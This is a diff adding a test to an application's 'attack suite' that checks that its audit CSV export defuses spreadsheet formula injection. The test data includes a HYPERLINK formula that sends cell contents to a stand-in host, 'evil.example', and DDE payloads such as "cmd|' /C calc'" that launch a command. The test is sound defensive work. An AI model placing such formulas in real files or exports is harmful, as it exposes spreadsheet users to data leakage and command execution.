@@ -5,6 +5,8 @@
 import { afterEach, describe, expect, it } from 'vitest';
 import { DEFAULT_SCRYPT_COST, hashPassword, needsRehash, verifyPassword } from '../../../src/server/auth/password';
 import { findTooDeepJson, MAX_JSON_DEPTH } from '../../../src/server/http/jsonBody';
+import { csvField } from '../../../src/server/http/toCsv';
+import { writeAudit } from '../../../src/server/store/audit';
 import { probeHealthDuring, sendRawBody } from './healthProbe';
 import {
   requestBody,
@@ -267,5 +269,60 @@ describe('attack suite', () => {
     const again = server.client();
     expect((await again.login('viettel')).status).toBe(200);
     expect(hashOf()).toBe(after);
+  });
+
+  it('neutralises formula cells in the audit CSV export (OWASP), keeping numbers as numbers', async () => {
+    const cells = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+      "+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '\t=1+1',
+      '\r=1+1',
+      '\uFF1D1+1',
+      'a;=1+1',
+    ];
+    expect(cells.map(csvField)).toEqual([
+      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`,
+      `"'+cmd|' /C calc'!A0"`,
+      `"'-2+3+cmd|' /C calc'!A0"`,
+      `"'@SUM(1+1)*cmd|' /C calc'!A0"`,
+      `"'\t=1+1"`,
+      `"'\r=1+1"`,
+      `"'\uFF1D1+1"`,
+      '"a;=1+1"',
+    ]);
+    // Decided: numbers stay numbers, whether given as numbers or as plain decimal text.
+    expect([-5.2, '-5.2', 42, '0.5', '-5.2e3', '-'].map(csvField)).toEqual([
+      '-5.2',
+      '-5.2',
+      '42',
+      '0.5',
+      `"'-5.2e3"`,
+      `"'-"`,
+    ]);
+
+    server = await startTestServer({ masts: 1 });
+    writeAudit(server.db, {
+      at: server.clock.now,
+      actor: { id: null, username: "=cmd|' /C calc'!A0", role: 'system' } as never,
+      provinceId: 'VN25',
+      action: '@SUM(A1)',
+      entityType: 'mast',
+      entityId: '+HYPERLINK("http://evil.example")',
+      oldValue: null,
+      newValue: '-1+1',
+    });
+    const planner = await server.loggedIn('planner');
+    const csv = (await planner.get('/api/audit.csv')).text;
+    const lines = csv.replace('\uFEFF', '').trimEnd().split('\r\n');
+    const attack = lines.find((line) => line.includes('HYPERLINK')) ?? '';
+    expect(attack).toContain(`,"'=cmd|' /C calc'!A0",`);
+    expect(attack).toContain(`,"'@SUM(A1)",`);
+    expect(attack).toContain(`,"'+HYPERLINK(""http://evil.example"")",`);
+    // The value is stored as JSON text ("-1+1" with its quotes): it starts with a quote, so it is no formula.
+    expect(attack).toMatch(/,"""-1\+1"""$/);
+    // No cell of the file starts a formula.
+    for (const line of lines) expect(line).not.toMatch(/(^|,)"?[=+@\t]/);
   });
 });
